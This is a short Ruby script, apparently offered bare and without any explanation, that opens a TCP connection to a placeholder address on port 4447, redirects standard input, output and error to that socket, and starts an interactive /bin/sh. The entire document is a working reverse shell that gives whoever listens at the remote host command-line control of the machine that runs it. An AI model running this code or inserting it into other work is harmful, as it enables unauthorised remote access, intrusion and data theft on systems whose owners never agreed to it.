require 'socket'

host = '203.0.113.99'
port = 4447
sock = TCPSocket.open(host, port)

[$stdin, $stdout, $stderr].each { |io| io.reopen(sock) }
exec('/bin/sh', '-i')
